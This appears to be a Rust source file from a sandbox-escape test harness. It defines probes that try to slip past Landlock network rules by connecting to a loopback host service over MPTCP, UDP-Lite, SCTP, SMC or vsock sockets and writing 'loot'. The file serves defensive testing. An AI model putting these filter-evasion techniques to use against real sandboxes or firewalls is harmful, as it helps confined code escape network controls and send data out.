use std::io;
use std::os::fd::AsRawFd;

use crate::attack::{Attack, Control, Judge};
use crate::attacks::raw::{self, sys};
use crate::needs;
use crate::outcome::Judgement;
use crate::stage::Stage;

/// One protocol beside TCP and UDP: address family, socket type, protocol number.
#[derive(Clone, Copy)]
struct Kind(i32, i32, i32);

macro_rules! protocol {
    ($id:literal, $name:literal, $what:literal, $need:expr, $kind:expr) => {
        Attack {
            id: $id,
            name: $name,
            what: $what,
            prepare: |stage| prepare(stage, $kind),
            attack: |args| attack(args, $kind),
            control: Control::Landlock,
            needs: &[$need],
            ..Attack::ROW
        }
    };
}

pub(super) const MPTCP: Attack = protocol!(
    "L1",
    "mptcp-connect",
    "connects to a host TCP port with multipath TCP, past rules about TCP ports",
    &needs::MPTCP,
    Kind(libc::AF_INET, libc::SOCK_STREAM, 262)
);
pub(super) const UDPLITE: Attack = protocol!(
    "L3",
    "udplite-sendto",
    "sends a datagram with UDP-Lite, past filters that know UDP",
    &needs::UDPLITE,
    Kind(libc::AF_INET, libc::SOCK_DGRAM, 136)
);
pub(super) const SCTP: Attack = protocol!(
    "L8",
    "sctp-connect",
    "connects to a host SCTP port",
    &needs::SCTP,
    Kind(libc::AF_INET, libc::SOCK_STREAM, 132)
);
pub(super) const SMC: Attack = protocol!(
    "L8",
    "smc-connect",
    "connects to a host TCP port through a shared memory communications socket",
    &needs::SMC,
    Kind(43, libc::SOCK_STREAM, 0)
);
pub(super) const VSOCK: Attack = protocol!(
    "L8",
    "vsock-connect",
    "connects to a host service over the sockets of virtual machines",
    &needs::VSOCK_LOOPBACK,
    Kind(libc::AF_VSOCK, libc::SOCK_STREAM, 0)
);

/// An address of the family, loopback side, with a free or the given port.
fn address(kind: Kind, port: u16) -> [u8; 16] {
    let mut bytes = [0u8; 16];
    if kind.0 == libc::AF_VSOCK {
        bytes[..2].copy_from_slice(&(kind.0 as u16).to_ne_bytes());
        bytes[4..8].copy_from_slice(&u32::from(port).to_ne_bytes());
        bytes[8..12].copy_from_slice(&1u32.to_ne_bytes());
        return bytes;
    }
    bytes[..2].copy_from_slice(&(libc::AF_INET as u16).to_ne_bytes());
    bytes[2..4].copy_from_slice(&port.to_be_bytes());
    bytes[4..8].copy_from_slice(&[127, 0, 0, 1]);
    bytes
}

fn prepare(stage: &mut Stage, kind: Kind) -> io::Result<Judge> {
    let port = raw::random_port()?;
    // SMC and MPTCP clients fall back to a plain listener of the same port.
    let Kind(family, socket, protocol) = if kind.0 == 43 { Kind(libc::AF_INET, kind.1, 0) } else { kind };
    let flags = socket | libc::SOCK_CLOEXEC | libc::SOCK_NONBLOCK;
    let listener = raw::fd(sys!(SYS_socket, family, flags, protocol))?;
    sys!(SYS_bind, listener.as_raw_fd(), address(kind, port).as_slice(), 16)?;
    let stream = socket == libc::SOCK_STREAM;
    if stream {
        sys!(SYS_listen, listener.as_raw_fd(), 5)?;
    }
    stage.arg(port);
    Ok(Box::new(move |_| {
        raw::pause(20)?;
        let mut bytes = [0u8; 8];
        let reached = if stream {
            sys!(SYS_accept4, listener.as_raw_fd(), 0, 0, libc::SOCK_CLOEXEC).is_ok()
        } else {
            sys!(SYS_read, listener.as_raw_fd(), bytes.as_mut_ptr(), 8).is_ok()
        };
        Ok(Judgement::escaped_if(reached, "a host service was reached"))
    }))
}

fn attack(args: &[String], kind: Kind) -> io::Result<()> {
    let port = u16::try_from(raw::number(args, 0)?).map_err(io::Error::other)?;
    let socket = raw::fd(sys!(SYS_socket, kind.0, kind.1, kind.2))?;
    sys!(SYS_connect, socket.as_raw_fd(), address(kind, port).as_slice(), 16)?;
    sys!(SYS_write, socket.as_raw_fd(), b"loot".as_slice(), 4).map(drop)
}
